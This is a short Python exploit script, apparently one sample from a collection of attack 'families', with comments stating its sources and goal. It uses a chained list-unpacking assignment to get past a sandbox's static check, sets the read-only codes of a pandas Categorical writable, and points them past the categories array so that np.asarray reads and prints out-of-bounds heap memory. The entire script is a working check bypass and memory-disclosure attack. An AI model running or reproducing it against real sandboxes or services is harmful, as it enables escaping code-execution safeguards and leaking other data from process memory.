# source: numpy docs ndarray.flags (WRITEABLE can be set True again on a view of a writable base), https://numpy.org/doc/stable/reference/generated/numpy.ndarray.flags.html; pandas Categorical codes read unchecked by take_nd (sandexec README, "The static check",'s Categorical family); chained-assignment targets missed by static checkers: https://github.com/unslothai/unsloth/pull/9777
# family: an array's write flag turned back on through a list unpacking target of a chained assignment (the check refuses flags.writeable = True and flags[...] = ...); the Categorical's codes then take codes past its categories
# goal: np.asarray(cat) reads the heap beyond the 3-element categories array (out-of-bounds memory read)
import numpy as np
import pandas as pd

cat = pd.Categorical([7, 1007, 2007] * 40)
c = cat.codes                          # read-only view of the codes pandas trusts
y = [c.flags.writeable] = [True]
c[:] = np.arange(120, dtype=np.int8)   # codes 3..119 point past the categories
print("categories:", cat.categories.tolist())
print("values read past the categories array:", np.asarray(cat)[3:14].tolist())
